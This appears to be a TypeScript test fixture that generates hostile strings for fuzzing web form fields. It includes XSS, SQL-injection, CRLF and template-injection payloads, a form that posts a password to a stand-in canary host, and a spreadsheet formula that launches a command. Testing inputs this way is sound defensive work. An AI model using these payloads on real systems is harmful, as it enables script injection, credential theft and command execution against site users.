/** A host to which no request may ever go. */
export const canary = 'canary.example'

/** Part of every hostile text: it is visible where the text is shown as plain text. */
export const marker = '{{7*7}}'

// Each closes the context into which a careless page inserts it, or starts code.
const attacks = [
  '<script>pwned=1</script>',
  '"><img src=x onerror=pwned=1>',
  "'><svg/onload=pwned=1>",
  '` autofocus onfocus=pwned=1 x="',
  '</title></textarea></template></noscript></style></script><script>pwned=1</script>',
  '--><!-- ]]><x/> <plaintext>',
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><a href="javascript:pwned=1">x</a>',
  `<base href="//${canary}/"><meta http-equiv=refresh content="0;url=//${canary}/">`,
  `<link rel=stylesheet href=//${canary}/a.css><style>*{background:url(//${canary}/b)}</style>`,
  `<form action=//${canary}/><input name=password></form>`,
  '}*{color:red}/* expression(pwned=1)',
  `${marker} \${7*7} #{7*7} <%=7*7%>`,
  '\\u003cscript\\u003e \\x3cimg\\x3e',
  '&lt;b&gt; &#60;i&#62; &amp;amp; &quot;',
  "'; drop table users; -- %s %n",
  '%0d%0aX-Evil: 1 \r\nX-Evil: 1\r\n\r\n',
  '\u0001\u0007\u001b[31m\u007f\u0085 \u2028\u2029',
  'zero\u200b\u200c\u200d\ufeffwidth \u202egnp.exe \u2066',
  'Z\u0351\u036b\u0343a\u0327\u0328 👩‍👩‍👧‍👦🇧🇩',
].join(' ')

// The beginning decides how a text is interpreted: as an address, a formula, an attribute.
const beginnings = [
  'javascript:pwned=1//',
  `//${canary}/x?`,
  `=cmd|' /C calc'!A0`,
  'data:text/html,<script>pwned=1</script>',
]

const longest = 20 * 1024 - 2000

/** The texts to try in a field, the most hostile first; the last one fits fields of 100 letters. */
export function hostileTexts(round: number): string[] {
  const whole = `${beginnings[round] ?? '@SUM(1)'} ${attacks}`
  const long = `${'<b>অ'.repeat(200)}${'W'.repeat(longest - 2000)}`
  return [
    round === 3 ? `${whole}${long}` : whole,
    `${whole.slice(0, 20)}"><img src=x onerror=pwned=1></script><script>pwned=1</script>${marker}`,
  ]
}
